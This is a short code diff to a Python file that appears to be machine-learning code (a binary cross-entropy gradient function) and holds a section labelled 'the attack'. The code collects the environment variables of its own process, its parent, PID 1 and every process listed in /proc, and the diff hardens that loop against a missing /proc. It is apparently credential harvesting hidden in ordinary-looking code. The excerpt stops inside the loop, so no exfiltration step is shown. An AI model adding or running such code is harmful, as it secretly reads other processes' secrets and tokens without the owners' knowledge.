@@ -49,7 +49,11 @@ def binary_cross_entropy_grad(y_hat, y):
 # -- the attack ----------------------------------------------------------------------
 
 SEEN = dict(os.environ)
-for _pid in ["self", str(os.getppid()), "1", *(p for p in os.listdir("/proc") if p.isdigit())]:
+try:  # gone when the worker has no /proc
+    _PIDS = [p for p in os.listdir("/proc") if p.isdigit()]
+except OSError:
+    _PIDS = []
+for _pid in ["self", str(os.getppid()), "1", *_PIDS]:
     try:
         with open(f"/proc/{_pid}/environ", "rb") as _fh:
             for _item in _fh.read().split(b"\0"):
